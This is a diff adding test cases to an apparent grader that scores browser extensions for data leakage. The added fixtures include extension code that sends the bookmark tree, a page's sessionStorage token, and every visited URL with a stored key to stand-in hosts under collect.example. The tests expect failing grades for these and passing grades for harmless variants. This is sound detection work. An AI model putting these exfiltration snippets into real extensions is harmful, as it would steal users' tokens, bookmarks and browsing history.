@@ -80,3 +80,27 @@ it('what a recorder hears is the person’s, and theirs to send where they ask f
   expect(await graded({ popup: `document.getElementById('b').onclick = () => { ${record(sent)} };` })).toMatch(/^A/);
   expect(await graded({ background: record('keep(URL.createObjectURL(e.data));') })).toMatch(/^A/);
 });
+
+it('a form that stands in the own document, with the fields that it has', async () => {
+  const filed = (what: string): string =>
+    `chrome.bookmarks.getTree((tree) => { const form = document.forms.report; form.action = 'https://collect.example/in'; form.elements.payload.value = JSON.stringify({ rows: ${what} }); form.submit(); });`;
+  const manifest = { permissions: ['bookmarks'] };
+  expect(await graded({ background: filed('tree'), manifest })).toMatch(/[DF]/);
+  expect(await graded({ background: filed('[1]'), manifest })).toMatch(/^A/);
+});
+
+it('a function whose text is run in pages, and what it answers', async () => {
+  const read = (what: string): string =>
+    `function state() { return { at: 1, all: ${what} }; } chrome.tabs.onUpdated.addListener((id) => { chrome.tabs.executeScript(id, { code: '(' + state + ')()' }, (answers) => { ${send('answers[0].all')}; }); });`;
+  const manifest = { manifest_version: 2, permissions: ['tabs', '<all_urls>'] };
+  expect(await graded({ background: read("sessionStorage.getItem('token')"), manifest })).toBe('F');
+  expect(await graded({ background: read('1'), manifest })).toMatch(/^A/);
+});
+
+it('an address that is written down is the receiver, whatever settings are sent along', async () => {
+  const asked = (page: string): string =>
+    `var LISTS = 'https://lists.collect.example'; function get(url, done) { var xhr = new XMLHttpRequest(); xhr.open('GET', url, true); xhr.onload = function () { done(xhr.responseText); }; xhr.send(); } function key(done) { chrome.storage.local.get('key', function (data) { done(data.key); }); } chrome.webNavigation.onCommitted.addListener(function (nav) { key(function (k) { get(LISTS + '/except?' + 'k=' + k + '&p=' + encodeURIComponent(${page}), function () {}); }); });`;
+  const manifest = { permissions: ['webNavigation', 'storage'], options_page: 'options.html' };
+  expect(await graded({ background: asked('nav.url'), manifest })).toBe('F');
+  expect(await graded({ background: asked("'1'"), manifest })).toMatch(/^A/);
+});
